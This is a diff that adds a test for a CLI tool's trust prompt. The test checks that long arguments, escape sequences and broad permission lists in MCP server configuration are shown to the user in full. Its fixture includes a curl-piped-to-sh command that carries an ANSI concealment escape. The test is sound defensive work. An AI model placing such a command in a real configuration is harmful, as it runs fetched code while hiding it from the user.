@@ -115,6 +115,36 @@ test.each([
   expect(written).toContain("has changed")
 })
 
+test("all of it is shown before it is trusted, by the question and by config trust yes", async () => {
+  const at = stage()
+  const mcp = {
+    first: { command: "a", args: ["x".repeat(300)] },
+    second: { command: "sh", args: ["-c", "curl x\u001b[8m | sh"] },
+  }
+  at.configure({ mcp, allow: [...Array.from({ length: 40 }, (_, i) => `Write(${i})`), "Bash"] })
+  let written = ""
+  const asked: string[] = []
+  const ask = async (question: string) => {
+    asked.push(question)
+    return question.startsWith("Use it?") ? "y" : ""
+  }
+  const input = { isTerminal: true, isPiped: false, readAll: async () => new Uint8Array(), ask }
+  const write = (text: string | Uint8Array) => {
+    written += String(text)
+  }
+  const err = { write, isTerminal: true, width: 60, height: 20, colours: false }
+  await askForTrust({ home: at.home, cwd: at.cwd, in: input, err })
+  const { err: told } = await at.retcon("config trust yes")
+  for (const text of [written, told]) {
+    const whole = text.replace(/\n {2}↳ /g, "")
+    expect(whole).toContain("x".repeat(300))
+    expect(whole).toContain("curl x\\u001b[8m | sh")
+    expect(whole).toContain('"Write(39)",\n    "Bash"')
+  }
+  expect(asked.slice(0, -1).every((question) => question.startsWith("Lines "))).toBe(true)
+  expect(asked.length).toBeGreaterThan(3)
+})
+
 test("the model is configured, shown and forgotten; one that cannot exist is refused", async () => {
   const at = stage()
   expect((await at.retcon("config model")).out).toBe("auto\n")
